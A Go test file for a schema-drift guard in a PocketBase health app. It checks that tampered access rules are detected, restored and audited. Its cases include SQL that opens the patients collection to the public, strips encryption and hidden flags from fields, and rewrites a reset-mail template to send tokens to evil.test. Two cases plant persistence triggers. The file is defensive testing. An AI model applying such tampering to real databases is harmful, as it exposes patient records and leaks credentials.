package schemadrift_test

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"maps"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/pocketbase/pocketbase/core"
	"github.com/pocketbase/pocketbase/tests"

	"github.com/vigilhealth/vigil/collections"
	"github.com/vigilhealth/vigil/hooks/schemadrift"
	"github.com/vigilhealth/vigil/internal/audit"
	"github.com/vigilhealth/vigil/internal/sqlite"
	"github.com/vigilhealth/vigil/internal/vigiltest"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// folder returns a data folder that only the migrations have written.
var folder = sync.OnceValues(func() (string, error) {
	collections.UseSealer(vigiltest.Sealer())
	dir, err := os.MkdirTemp("", "vigil-rules-")
	if err != nil {
		return "", err
	}
	app := core.NewBaseApp(core.BaseAppConfig{DataDir: dir, DBConnect: sqlite.Connect})
	if err := app.Bootstrap(); err != nil {
		return "", err
	}
	if err := errors.Join(app.RunAllMigrations(), audit.EnsureState(app)); err != nil {
		return "", err
	}
	return dir, app.ClearBootstrap()
})

func TestMain(m *testing.M) {
	code := m.Run()
	if dir, err := folder(); err == nil {
		_ = os.RemoveAll(dir)
	}
	os.Exit(code)
}

// migrated returns an app on a copy of the folder.
func migrated(t *testing.T) core.App {
	t.Helper()
	dir, err := folder()
	if err != nil {
		t.Fatal(err)
	}
	app, err := tests.NewTestAppWithConfig(core.BaseAppConfig{DataDir: dir, DBConnect: sqlite.Connect})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(app.Cleanup)
	return app
}

// write formats descriptions as rules.json does, one declaration per line.
func write(described map[string]schemadrift.Collection) []byte {
	var out bytes.Buffer
	for i, name := range slices.Sorted(maps.Keys(described)) {
		separator := ",\n"
		if i == 0 {
			separator = "{\n"
		}
		fmt.Fprintf(&out, "%s%q: {\n", separator, name)
		for j, what := range slices.Sorted(maps.Keys(described[name])) {
			if j > 0 {
				out.WriteString(",\n")
			}
			fmt.Fprintf(&out, "  %q: %s", what, described[name][what])
		}
		out.WriteString("\n}")
	}
	out.WriteString("\n}\n")
	return out.Bytes()
}

// The embedded file matches the migrations. The migrations must bring an older database to the same state: a change by a PocketBase upgrade needs a
// migration.
func TestGolden(t *testing.T) {
	found, err := schemadrift.Describe(migrated(t))
	if err != nil {
		t.Fatal(err)
	}
	written := write(found)
	if *update {
		if err := os.WriteFile("rules.json", written, 0o600); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile("rules.json")
	if err != nil || !bytes.Equal(written, want) {
		t.Errorf("the migrations differ from rules.json; run make golden and review the difference (%v)", err)
	}
	if bytes.Contains(written, []byte(`"secret":"`)) {
		t.Error("rules.json holds secrets")
	}
}

// In a fresh database only the auth collections must be parsed.
func TestFreshDatabaseMatches(t *testing.T) {
	names, err := schemadrift.ParsedCollections(migrated(t))
	slices.Sort(names)
	if err != nil || !slices.Equal(names, []string{"_superusers", "users"}) {
		t.Errorf("%v, %v", names, err)
	}
}

func TestRestoreOfFreshDatabase(t *testing.T) {
	app := migrated(t)
	if found, err := schemadrift.Restore(app, vigiltest.Clock); err != nil || len(found) != 0 {
		t.Errorf("a fresh database: %v, %v", found, err)
	}
	if rows, _, err := audit.List(app, audit.Filter{}, 0, 10); err != nil || len(rows) != 0 {
		t.Errorf("%d audit entries, %v", len(rows), err)
	}
}

func TestRestore(t *testing.T) {
	field := func(collection, name, key, value string) string {
		return `UPDATE _collections SET fields = (SELECT json_group_array(CASE WHEN json_extract(f.value, '$.name') = '` + name + `'
			THEN json_set(f.value, '$.` + key + `', json('` + value + `')) ELSE json(f.value) END) FROM json_each(fields) AS f) WHERE name = '` + collection + `'`
	}
	for name, test := range map[string]struct{ sql, collection, what string }{
		"list rule":         {`UPDATE _collections SET listRule = '' WHERE name = 'patients'`, "patients", "listRule"},
		"restricted rule":   {`UPDATE _collections SET updateRule = '@request.auth.id != ""' WHERE name = 'observations'`, "observations", "updateRule"},
		"system collection": {`UPDATE _collections SET viewRule = NULL WHERE name = '_mfas'`, "_mfas", "viewRule"},
		"sign-in":           {`UPDATE _collections SET options = json_set(options, '$.passwordAuth.enabled', json('true')) WHERE name = 'users'`, "users", "passwordAuth"},
		"auth rule":         {`UPDATE _collections SET options = json_set(options, '$.authRule', '') WHERE name = 'users'`, "users", "authRule"},
		"token lifetime":    {`UPDATE _collections SET options = json_set(options, '$.authToken.duration', 94670777) WHERE name = '_superusers'`, "_superusers", "authToken"},
		"mail template":     {`UPDATE _collections SET options = json_set(options, '$.resetPasswordTemplate.body', 'https://evil.test/{TOKEN}') WHERE name = '_superusers'`, "_superusers", "resetPasswordTemplate"},
		"hidden field":      {field("users", "totp_secret", "hidden", "false"), "users", "fields.totp_secret"},
		"unencrypted field": {field("patients", "last_name", "type", `"text"`), "patients", "fields.last_name"},
		"removed field":     {`UPDATE _collections SET fields = (SELECT json_group_array(json(f.value)) FROM json_each(fields) AS f WHERE json_extract(f.value, '$.name') != 'role') WHERE name = 'users'`, "users", "fields.role"},
		"duplicate field":   {`UPDATE _collections SET fields = json_insert(fields, '$[#]', json_set(json_extract(fields, '$[2]'), '$.hidden', json('true'))) WHERE name = 'alerts'`, "alerts", "fields.level"},
		"no longer system":  {`UPDATE _collections SET system = FALSE WHERE name = 'audit_log'`, "audit_log", "system"},
		"made public":       {`INSERT INTO _collections (id, type, name, fields, listRule) VALUES ('pbc_leak', 'base', 'leak', '[]', '')`, "leak", "listRule"},
		"made a view":       {`INSERT INTO _collections (id, type, name, fields, viewRule, options) VALUES ('pbc_leak', 'view', 'leak', '[]', '', '{"viewQuery":"SELECT id FROM users"}')`, "leak", "viewRule"},
	} {
		t.Run(name, func(t *testing.T) {
			app := migrated(t)
			secrets := tokenSecrets(t, app)
			if _, err := app.NonconcurrentDB().NewQuery(test.sql).Execute(); err != nil {
				t.Fatal(err)
			}
			found, err := schemadrift.Restore(app, vigiltest.Clock)
			if err != nil || len(found) != 1 || found[0].Collection != test.collection || found[0].What != test.what {
				t.Fatalf("found %v, %v", found, err)
			}
			if left, err := schemadrift.Check(app); err != nil || len(left) != 0 {
				t.Errorf("still otherwise: %v, %v", left, err)
			}
			entries, _, err := audit.List(app, audit.Filter{Event: string(audit.RulesRestore)}, 0, 10)
			if err != nil || len(entries) != 1 || entries[0].ActorType != "system" || entries[0].ResourceID != test.collection || strings.Join(entries[0].Fields(), " ") != test.what {
				t.Errorf("audited as %+v, %v", entries, err)
			}
			if tokenSecrets(t, app) != secrets {
				t.Error("secrets were changed with it")
			}
			if test.collection != "leak" {
				if _, err := app.FindAllRecords(test.collection); err != nil {
					t.Error(err)
				}
			}
		})
	}
}

// An auth collection with a changed type is restored with new secrets.
func TestRestoreCollectionType(t *testing.T) {
	app := migrated(t)
	if _, err := app.NonconcurrentDB().NewQuery(`UPDATE _collections SET type = 'base', options = '{}', listRule = '' WHERE name = 'users'`).Execute(); err != nil {
		t.Fatal(err)
	}
	found, err := schemadrift.Restore(app, vigiltest.Clock)
	if err != nil || len(found) < 2 {
		t.Fatalf("found %v, %v", found, err)
	}
	if left, err := schemadrift.Check(app); err != nil || len(left) != 0 {
		t.Errorf("still otherwise: %v, %v", left, err)
	}
	users, err := app.FindCollectionByNameOrId("users")
	if err != nil || !users.IsAuth() || len(users.AuthToken.Secret) < 50 || users.AuthToken.Secret == users.FileToken.Secret {
		t.Errorf("users came back as %v without secrets (%v)", users.Type, err)
	}
}

// A missing collection cannot be restored.
func TestMissingCollection(t *testing.T) {
	app := migrated(t)
	if _, err := app.NonconcurrentDB().NewQuery(`UPDATE _collections SET name = 'old_patients' WHERE name = 'patients'`).Execute(); err != nil {
		t.Fatal(err)
	}
	if _, err := schemadrift.Restore(app, vigiltest.Clock); err == nil || !strings.Contains(err.Error(), "patients is gone") {
		t.Errorf("%v", err)
	}
}

func tokenSecrets(t *testing.T, app core.App) string {
	t.Helper()
	var secrets []string
	err := app.DB().NewQuery(`SELECT name || json_extract(options, '$.authToken.secret') || json_extract(options, '$.fileToken.secret') FROM _collections
		WHERE type = 'auth' ORDER BY name`).Column(&secrets)
	if err != nil || len(secrets) != 2 {
		t.Fatal(secrets, err)
	}
	return strings.Join(secrets, " ")
}

// The service does not start if a restore does not last: a trigger left by an attacker would keep access open.
func TestRestoreThatDoesNotLast(t *testing.T) {
	for name, trigger := range map[string]string{
		"nothing is written": `CREATE TRIGGER kept BEFORE UPDATE ON _collections BEGIN SELECT RAISE(IGNORE); END`,
		"written over":       `CREATE TRIGGER kept AFTER UPDATE ON _collections BEGIN UPDATE _collections SET listRule = '' WHERE name = 'patients'; END`,
	} {
		t.Run(name, func(t *testing.T) {
			app := migrated(t)
			for _, sql := range []string{`UPDATE _collections SET listRule = '' WHERE name = 'patients'`, trigger} {
				if _, err := app.NonconcurrentDB().NewQuery(sql).Execute(); err != nil {
					t.Fatal(err)
				}
			}
			if found, err := schemadrift.Restore(app, vigiltest.Clock); err == nil || !strings.Contains(err.Error(), "listRule of collection patients") || len(found) > 0 {
				t.Errorf("put right: %v, %v", found, err)
			}
		})
	}
}
